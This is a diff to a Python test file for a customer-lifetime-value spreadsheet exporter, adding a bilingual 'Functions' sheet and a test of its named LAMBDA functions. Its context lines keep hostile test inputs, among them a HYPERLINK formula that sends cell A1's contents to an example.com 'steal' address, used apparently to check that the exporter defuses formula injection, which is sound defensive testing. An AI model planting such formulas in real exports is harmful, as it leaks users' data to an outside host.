@@ -28,9 +28,9 @@ HOSTILE_ID = '=HYPERLINK("http://example.com/steal?"&A1,"click")'
 HOSTILE_SEGMENT = "@SUM(A1)"
 
 EN_SHEETS = ["Assumptions", "Customers", "Segments", "Cohorts", "Scenarios", "Model fit",
-             "Data quality"]
+             "Data quality", "Functions"]
 NL_SHEETS = ["Aannames", "Klanten", "Segmenten", "Cohorten", "Scenario's", "Modelfit",
-             "Datakwaliteit"]
+             "Datakwaliteit", "Functies"]
 
 
 def hostile_orders() -> pd.DataFrame:
@@ -76,6 +76,24 @@ def find_row(ws, text, column=1):
 def test_sheets_in_order_per_language(books):
     assert books["en"].sheetnames == EN_SHEETS
     assert books["nl"].sheetnames == NL_SHEETS
+
+
+def test_functions_sheet_defines_the_lambda_functions(books):
+    """The report carries the named LAMBDA functions (issue 12) and tries each on its sheet;
+    their values are checked in IronCalc in test_excel_lambdas.py."""
+    from clvdesk.core.io.excel_lambdas import FUNCTIONS
+
+    for key, book in books.items():
+        for function in FUNCTIONS:
+            name = book.defined_names[function.name]
+            assert name.attr_text == function.stored
+            assert name.comment == function.description
+        ws = book[EN_SHEETS[-1] if key == "en" else NL_SHEETS[-1]]
+        formulas = {c.value for row in ws.iter_rows() for c in row
+                    if isinstance(c.value, str) and c.data_type == "f"}
+        for function in FUNCTIONS:
+            assert any(f.startswith(f"={function.name}(") for f in formulas), function.name
+    assert books["nl"]["Functies"]["A1"].value.startswith("CLV-functies")
 
 
 def test_assumption_cells_are_named_inputs(books, result):
